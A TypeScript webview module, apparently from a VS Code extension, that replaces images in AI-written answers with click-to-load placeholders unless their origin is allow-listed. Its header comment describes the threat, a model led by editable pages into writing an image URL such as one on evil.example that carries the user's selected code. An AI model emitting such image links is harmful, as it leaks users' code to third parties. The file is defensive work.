import * as l10n from '@vscode/l10n';
import { h, icon } from './dom';

// Images in answers. An answer is written by a model that reads pages anyone may edit, so an
// image URL can carry what the user selected (`![x](https://evil.example/p?d=<selected code>)`)
// and loading it sends that away. Only images from origins the user allowed in their own
// settings (the docs site by default) load by themselves; the page's CSP allows just those, so
// this module is the friendly half and the CSP the hard one. Any other image becomes a button
// that names its host; a click asks the host to fetch it (bounded, images only) and the page
// shows it as a data: URL, which the CSP allows.

let allowedOrigins: ReadonlySet<string> = new Set();
/** Images the user chose to load, by URL: a re-render of the same markdown shows them at once. */
const loaded = new Map<string, string>();
const LOADED_MAX = 50;

const DATA_IMAGE = /^data:image\/(png|gif|jpe?g|webp);/i;

/** The origins the host put on the page (`#app[data-image-origins]`), the same ones its CSP allows. */
export function readImageOrigins(app: HTMLElement): void {
  allowedOrigins = new Set((app.dataset.imageOrigins ?? '').split(/\s+/).filter(Boolean));
}

export function rememberLoadedImage(url: string, dataUrl: string): void {
  if (!DATA_IMAGE.test(dataUrl)) return;
  if (loaded.size >= LOADED_MAX) loaded.delete(loaded.keys().next().value!);
  loaded.set(url, dataUrl);
}

function webUrl(src: string): URL | undefined {
  try {
    const url = new URL(src);
    return (url.protocol === 'https:' || url.protocol === 'http:') && !url.username && !url.password ? url : undefined;
  } catch {
    return undefined;
  }
}

function placeholder(url: URL | undefined, alt: string): HTMLElement {
  if (!url) return h('span', { class: 'image-blocked', title: l10n.t('This image cannot be shown.') }, icon('file-media'), ` ${alt || l10n.t('image')}`);
  const label = alt ? l10n.t('Image from {0}: {1}', url.host, alt) : l10n.t('Image from {0}', url.host);
  return h(
    'button',
    {
      type: 'button',
      class: 'image-placeholder',
      'data-action': 'loadImage',
      'data-src': url.href,
      'data-alt': alt,
      title: `${url.href}\n${l10n.t('Click to load it from {0}.', url.host)}`,
    },
    icon('file-media'),
    h('span', {}, label),
    h('span', { class: 'image-placeholder-hint' }, ` · ${l10n.t('click to load')}`),
  );
}

/** Replaces every image in `root` that may not load by itself with a click-to-load placeholder. */
export function guardImages(root: ParentNode): void {
  for (const img of Array.from(root.querySelectorAll('img'))) {
    const src = img.getAttribute('src') ?? '';
    if (DATA_IMAGE.test(src)) continue;
    const url = webUrl(src);
    if (url && allowedOrigins.has(url.origin)) continue;
    const approved = url && loaded.get(url.href);
    if (approved) {
      img.setAttribute('src', approved);
      continue;
    }
    img.replaceWith(placeholder(url, img.getAttribute('alt') ?? ''));
  }
}

/** After the host fetched it: the placeholder becomes the image. */
export function showLoadedImage(button: HTMLElement, dataUrl: string): void {
  const src = button.dataset.src;
  if (!src || !DATA_IMAGE.test(dataUrl)) return;
  rememberLoadedImage(src, dataUrl);
  const img = document.createElement('img');
  img.src = dataUrl;
  img.alt = button.dataset.alt ?? '';
  img.title = src;
  button.replaceWith(img);
}
